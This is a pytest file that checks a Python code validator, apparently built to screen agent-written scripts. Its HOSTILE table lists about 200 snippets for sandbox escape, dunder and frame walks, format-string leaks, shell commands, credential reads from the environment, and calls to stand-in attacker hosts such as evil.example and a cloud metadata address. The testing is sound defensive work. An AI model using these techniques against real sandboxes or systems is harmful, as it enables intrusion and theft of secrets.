"""The validator refuses what hostile code tries, each time by the rule that says why."""

import ast
import dataclasses
import textwrap

import pytest

from agentic.validator import ValidationPolicy, validate
from agentic.validator.allowed import RULES

HOSTILE = [
    # Dynamic code.
    ("name", "eval('1')"),
    ("name", "exec('x = 1')"),
    ("name", "compile('1', '', 'eval')"),
    ("dunder", "__import__('os').system('id')"),
    ("name", "e = eval\ne('1')"),
    ("name", "list(map(eval, ['1']))"),
    ("name", "@eval\nclass A: ..."),
    ("name", "open('/etc/passwd').read()"),
    ("name", "def f():\n    global open\n    return open('/etc/passwd')"),
    ("name", "if not 1:\n    open = 1\nopen('/etc/passwd')"),
    ("name", "class A:\n    if not 1:\n        open = 1\n    open('/etc/passwd')"),
    ("name", "print([open for open in open('/etc/passwd')])"),
    ("name", "def f(path=open('/etc/passwd')): ..."),
    ("name", "def f(open):\n    def g():\n        global open\n        return open('/etc/passwd')\n    return g()"),
    ("name", "input('key? ')"),
    ("name", "globals()['x']"),
    ("name", "locals()"),
    ("name", "vars(print)"),
    ("name", "breakpoint()"),
    ("name", "memoryview(b'1')"),
    ("name", "license()"),
    ("name", "from_nowhere(1)"),
    ("dunder", "print(__builtins__)"),
    ("dunder", "__loader__.load_module('os')"),
    ("dunder", "print(__file__)"),
    # Walks over objects and frames.
    ("dunder", "().__class__.__base__.__subclasses__()"),
    ("dunder", "print.__self__"),
    ("dunder", "(lambda: 0).__globals__"),
    ("dunder", "def f(): ...\nf.__code__"),
    ("dunder", "x = 1\nx.__dict__"),
    ("dunder", "x = 1\nx.__class__"),
    ("dunder", "x = 1\nx.__class__.__mro__"),
    ("dunder", "''.__getattribute__('format')"),
    ("dunder", "super().__getattribute__('x')"),
    ("attribute", "(i for i in []).gi_frame"),
    ("attribute", "async def f(): ...\nf().cr_frame.f_globals"),
    ("dunder", "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_globals"),
    ("attribute", "def f(tb):\n    return tb.tb_frame"),
    ("attribute", "def f(frame):\n    return frame.f_back"),
    ("attribute", "str.mro()"),
    ("attribute", "def f(code):\n    return code.co_consts"),
    ("call", "getattr(print, '__' + input_)\ninput_ = str(1)"),
    ("dunder", "getattr(print, '__self__')"),
    ("dunder", "NAME = '__sel' + 'f__'\ngetattr(print, NAME)"),
    ("dunder", "for name in ['real', '__class__']:\n    getattr(1, name)"),
    ("call", "def f(name):\n    return getattr(print, name)"),
    ("call", "g = getattr\ng(print, '__self__')"),
    ("call", "list(map(getattr, [1], ['__class__']))"),
    ("call", "getattr(*[1, '__class__'])"),
    ("call", "getattr.__call__(print, '__self__')"),
    ("dunder", "setattr(print, '__x__', 1)"),
    ("call", "def f(o, n, v):\n    setattr(o, n, v)"),
    ("dunder", "delattr(print, '__doc2__')"),
    ("dunder", "from operator import attrgetter\nattrgetter('real.__class__')(1)"),
    ("call", "import operator\ndef f(n):\n    return operator.attrgetter(n)"),
    ("call", "from operator import attrgetter as a\nb = a\nb('__class__')"),
    ("dunder", "import operator as o\no.methodcaller('__subclasses__')(object)"),
    ("dunder", "match 1:\n    case object(__class__=kind):\n        print(kind)"),
    ("attribute", "match 1:\n    case object(gi_frame=kind):\n        print(kind)"),
    ("private", "import stripe\nstripe.Customer.list()._requestor"),
    ("private", "import stripe\nstripe._http_client.new_default_http_client()"),
    ("private", "class A: ...\nA()._module"),
    ("attribute", "def f(x):\n    return x.sys.modules"),
    # Format texts.
    ("format", "'{0.__class__.__base__}'.format(1)"),
    ("format", "'{0.__cl' 'ass__}'.format(1)"),
    ("format", "A = '{0.__cla'\n(A + 'ss__}').format(1)"),
    ("format", "f = '{0.__class__}'.format\nf(1)"),
    ("format", "def f(template, x):\n    return template.format(x)"),
    ("format", "str.format('{0.__class__}', 1)"),
    ("format", "'{x.__class__}'.format_map({'x': 1})"),
    ("format", "'{0:{1.__class__}}'.format(1, 2)"),
    ("format", "'{0[a].__class__}'.format(1)"),
    ("format", "'{a.gi_frame}'.format(a=1)"),
    ("format", "'{'.format(1)"),
    ("format", "import sys\nf'{sys.argv[0]}'.format(1)"),
    ("format", "getattr('{0.__class__}', 'format')(1)"),
    ("format", "import operator\noperator.methodcaller('format', 1)('{0.__class__}')"),
    ("member", "import string\nstring.Formatter().format('{0.__class__}', 1)"),
    ("format", "import logging\nlogging.basicConfig(format='{msg.__class__}', style='{')"),
    # Imports and walks through modules.
    ("import", "import subprocess"),
    ("import", "import socket"),
    ("import", "import ctypes"),
    ("import", "import pickle"),
    ("import", "import importlib"),
    ("import", "import builtins"),
    ("import", "import inspect"),
    ("import", "import gc"),
    ("import", "import pathlib"),
    ("import", "def f():\n    import shutil"),
    ("import", "import numpy"),
    ("import", "from requests import *"),
    ("import", "from . import secret"),
    ("import", "from ..x import y"),
    ("member", "from os import system"),
    ("member", "import os\nos.system('id')"),
    ("member", "import os as o\no.popen('id')"),
    ("member", "import os\nos.path.os.system('id')"),
    ("member", "import os.path as p\np.genericpath"),
    ("member", "import os\nos.path.exists('/etc/passwd')"),
    ("member", "import json\njson.codecs.open('x')"),
    ("member", "import logging\nlogging.os.system('id')"),
    ("member", "from logging import os"),
    ("member", "import logging.handlers"),
    ("member", "import stripe\nstripe.os.system('id')"),
    ("member", "from requests import sessions\nsessions.os"),
    ("member", "import requests\nrequests.packages.urllib3"),
    ("member", "import requests\nrequests.compat"),
    ("import", "import urllib3.poolmanager"),
    ("member", "import sys\nsys.modules['os']"),
    ("private", "import stripe\nfrom stripe import _util"),
    ("member", "import sys\nsys._getframe()"),
    ("member", "import random\nrandom._os.system('id')"),
    ("member", "import typing\ntyping.get_type_hints(print)"),
    ("member", "import functools\nfunctools.singledispatch"),
    ("member", "import dataclasses\ndataclasses.make_dataclass('A', [])"),
    ("member", "import asyncio\nasyncio.create_subprocess_shell('id')"),
    ("attribute", "import asyncio\nasyncio.new_event_loop().subprocess_shell(print, 'id')"),
    ("attribute", "import asyncio\nasyncio.get_event_loop().create_connection(print, 'evil.example', 80)"),
    ("attribute", "from asyncio import get_event_loop\ngetattr(get_event_loop(), 'create_server')(print)"),
    ("member", "from warnings import catch_warnings\ncatch_warnings()._module.sys"),
    ("member", "import io\nio.open('/etc/passwd')"),
    ("member", "from concurrent.futures import ProcessPoolExecutor"),
    ("member", "import uuid\nuuid.uuid1()"),
    ("member", "import logging\nlogging.FileHandler('x')"),
    ("member", "from urllib.request import urlretrieve"),
    ("member", "getattr(os, 'system')('id')\nimport os"),
    ("member", "import os\nclass A:\n    if not 1:\n        os = 1\n    os.system('id')"),
    ("member", "import os\nprint([os for os in [1]])\nos.system('id')"),
    ("module_value", "import os\nm = os\nm.system('id')"),
    ("module_value", "import stripe\nprint([stripe][0].os)"),
    ("module_value", "import os\ntype(os)('x')"),
    ("module_value", "import json\ndef f(m=json):\n    return m.codecs"),
    # Environment.
    ("environment", "import os\nprint(os.environ)"),
    ("environment", "import os\nprint(dict(os.environ))"),
    ("environment", "import os\nfor name in os.environ:\n    print(name)"),
    ("environment", "import os\nos.environ.items()"),
    ("environment", "import os\nos.environ['AWS_SECRET_ACCESS_KEY']"),
    ("environment", "import os\nos.environ.get('PATH')"),
    ("environment", "import os\nos.getenv('HOME', '')"),
    ("environment", "from os import environ as e\ne['HOME']"),
    ("environment", "from os import getenv\ngetenv('HOME')"),
    ("environment", "import os\ndef f(n):\n    return os.environ[n]"),
    ("environment", "import os\nos.getenv(*['HOME'])"),
    ("environment", "import os\n'HOME' in os.environ"),
    ("environment", "import os\nos.environ['STRIPE_API_KEY'] = 'x'"),
    ("environment", "import os\ndel os.environ['STRIPE_API_KEY']"),
    ("environment", "import os\nos.environ.__getitem__('HOME')"),
    ("environment", "import os\nprint({**os.environ})"),
    ("environment", "import os\nx = os.environ.get"),
    ("call", "import os\nx = os.getenv\nx('HOME')"),
    ("call", "import functools, os\nfunctools.partial(os.getenv, 'HOME')()"),
    # Changes to what is imported.
    ("assignment", "import stripe\nstripe.api_base = 'https://evil.example'"),
    ("assignment", "import stripe\nstripe.proxy = 'http://evil.example'"),
    ("assignment", "import stripe\nstripe.Customer.create = print"),
    ("assignment", "import stripe\nsetattr(stripe, 'api_base', 'https://evil.example')"),
    ("assignment", "import json\njson.dumps = print"),
    ("assignment", "from requests import Session\nSession.get = print"),
    ("assignment", "import stripe\nfor stripe.api_base in ['https://evil.example']: ..."),
    ("assignment", "import stripe\nwith open_() as stripe.verify_ssl_certs: ...\ndef open_(): ..."),
    ("assignment", "import stripe\ndel stripe.api_key2"),
    ("assignment", "import sys\nsys.stdout = None"),
    # Hosts.
    ("host", "import requests\nrequests.get('https://evil.example/x')"),
    ("host", "import requests\nrequests.post(url='https://evil.example/x', json={})"),
    ("host", "import requests\nrequests.request('GET', 'https://evil.example')"),
    ("host", "import requests\nrequests.Session().get('http://169.254.169.254/latest/meta-data')"),
    ("host", "import requests\nURL = 'https://evil.example'\nrequests.get(f'{URL}/x')"),
    ("host", "import requests\nB = 'https://'\nrequests.get(B + 'evil.example/' + str(1))"),
    ("host", "import requests\nrequests.get('https://api.github.com@evil.example/')"),
    ("host", "import requests\nrequests.get('https://api.github.com.evil.example/')"),
    ("host", "import requests\nrequests.get('https://api.github.com:8443/')"),
    ("host", "import requests\nrequests.get('https://api.github.com\\\\@evil.example/')"),
    ("host", "import requests\nrequests.get('  HTTPS://EVIL.example/')"),
    ("host", "import requests\ndef f(h):\n    requests.get(f'https://{h}/x')"),
    ("host", "import requests\nrequests.get('https://{}/x'.format('evil.example'))"),
    ("host", "import requests\nrequests.get('https://%s/x' % 'evil.example')"),
    ("host", "from requests import get\nget('https://evil.example/')"),
    ("host", "import requests\nrequests.get(*['https://evil.example'])"),
    ("host", "import requests\nrequests.get(**{'url': 'https://evil.example'})"),
    ("host", "import requests\ng = requests.get\ng('https://evil.example')"),
    ("host", "import functools, requests\nfunctools.partial(requests.get, 'https://evil.example')()"),
    ("host", "import asyncio, requests\nasyncio.to_thread(requests.get, 'https://evil.example')"),
    ("host", "import requests\nfor u in ('https://evil.example', ):\n    requests.get(u)"),
    ("host", "import github\ngithub.Github(base_url='https://evil.example')"),
    ("host", "import stripe\nstripe.StripeClient('k', base_addresses={'api': 'https://evil.example'})"),
    ("host", "import requests\nrequests.get('https://api.github.com', proxies={'https': 'http://evil.example'})"),
    ("host", "import requests\ns = requests.Session()\ns.proxies = {'https': 'http://evil.example'}"),
    ("host", "import urllib.request\nurllib.request.urlopen('file:///etc/passwd')"),
    ("host", "import urllib.request\ndef f(url):\n    urllib.request.urlopen(url)"),
    ("host", "import urllib.request\nr = urllib.request.Request('https://evil.example')\nurllib.request.urlopen(r)"),
    ("call", "import urllib.request\no = urllib.request.urlopen\no('file:///etc/passwd')"),
    # Classes and special methods.
    ("class", "type('A', (), {})"),
    ("class", "class M: ...\nclass A(metaclass=M): ..."),
    ("class", "class A(**{'metaclass': type}): ..."),
    ("dunder", "class A:\n    def __getattr__(self, name): ..."),
    ("dunder", "class A:\n    def __init_subclass__(cls): ..."),
    ("dunder", "class A:\n    __getattr__ = print"),
    ("dunder", "class A:\n    __match_args__ = ('__class__',)"),
    ("dunder", "def __getattr__(name): ..."),
    ("dunder", "import json as __builtins__"),
    ("dunder", "__name__ = 'x'"),
    ("dunder", "def f(__class__): ..."),
    # Allowed functions with arguments that make them something else.
    ("call", "import logging\nlogging.basicConfig(filename='/tmp/x')"),
    ("call", "import logging\nlogging.basicConfig(**{'filename': '/tmp/x'})"),
    ("call", "import argparse\nargparse.ArgumentParser(fromfile_prefix_chars='@')"),
    ("call", "import argparse\nargparse.ArgumentParser().parse_args([], namespace=print)"),
    ("call", "import argparse\nargparse.ArgumentParser().parse_args([], print)"),
    ("call", "import functools\nfunctools.wraps(print, assigned=('x',))"),
    # Text that is not what it seems.
    ("control_character", "x = 1  # \u202e } : return"),
    ("control_character", "x = 1\x0cy = 2"),
    ("control_character", "x = '\x00'"),
    ("identifier", "ｅval('1')"),
    ("identifier", "\u0430 = 1\nprint(\u0430)"),
    ("encoding", b"# coding: utf-7\nx = 1"),
    ("encoding", b"#!python\n# vim: set fileencoding=latin-1 :\nx = 1"),
    ("encoding", "x = 1".encode("utf-16")),
    ("encoding", b"x = '\xe4'"),
    ("encoding", b"\xef\xbb\xbfx = 1"),
    ("encoding", "x = '\ud800'"),
    ("syntax", "x = (\n"),
    ("syntax", "return 1"),
    ("syntax", "x = " + "1" * 5000),
    ("nesting", "x = " + "-" * 50_000 + "1"),
    ("nesting", "x = " + "+".join(["1"] * 200)),
    ("too_large", "x = 1\n" * 100_000),
    ("too_large", "x = [" + "1," * 30_000 + "]"),
]


def identify(entry: object) -> str:
    return ascii(entry)[:60] if isinstance(entry, str | bytes) else ""


@pytest.mark.parametrize(("rule", "source"), HOSTILE, ids=identify)
def test_hostile_code_is_refused_by_the_rule_that_says_why(rule: str, source: str | bytes, policy: ValidationPolicy) -> None:
    verdict = validate(source, policy)
    assert not verdict.valid
    assert rule in {finding.rule for finding in verdict.findings}


def test_the_table_has_a_case_for_every_rule_that_a_script_can_break() -> None:
    """`construct` has none: this version of Python has no statement that is not on the list. The SDK's rules need its index."""
    assert {rule for rule, _ in HOSTILE} == RULES.keys() - {"construct", "sdk_member", "sdk_parameter"}
    assert len(HOSTILE) >= 70


def permissive(source: str | bytes) -> list[str]:
    """A validator without a policy: what parses is let through."""
    try:
        ast.parse(source)
    except (SyntaxError, RecursionError, MemoryError, ValueError):
        return ["syntax"]
    return []


def test_control_most_hostile_code_passes_where_only_the_syntax_is_checked() -> None:
    """The table would not be refused by just anything: without the policy only what is no Python is found."""
    textual = {"syntax", "nesting", "encoding", "control_character"}
    passed = [source for rule, source in HOSTILE if rule not in textual and not permissive(source)]
    assert len(passed) == sum(rule not in textual for rule, _ in HOSTILE)


def test_control_a_wider_policy_lets_its_own_things_through(policy: ValidationPolicy) -> None:
    """Modules, names and hosts are refused because of the policy, not by accident."""
    source = """
        import os
        import numpy
        import requests
        print(os.environ["HOME"], numpy.asarray([]))
        requests.get("https://evil.example/x", timeout=5)
        """
    wide = dataclasses.replace(
        policy,
        modules=policy.modules | {"numpy"},
        environment=policy.environment | {"HOME"},
        hosts=policy.hosts | {"evil.example"},
    )
    assert validate(textwrap.dedent(source), wide).valid
    rules = {finding.rule for finding in validate(textwrap.dedent(source), policy).findings}
    assert rules == {"environment", "import", "host"}


@pytest.mark.parametrize("module", ["os", "socket", "subprocess", "builtins"])
def test_a_plugin_cannot_widen_the_standard_library(module: str, policy: ValidationPolicy) -> None:
    wide = dataclasses.replace(policy, modules=policy.modules | {module})
    assert not validate(f"import {module}\n{module}.system('id')", wide).valid
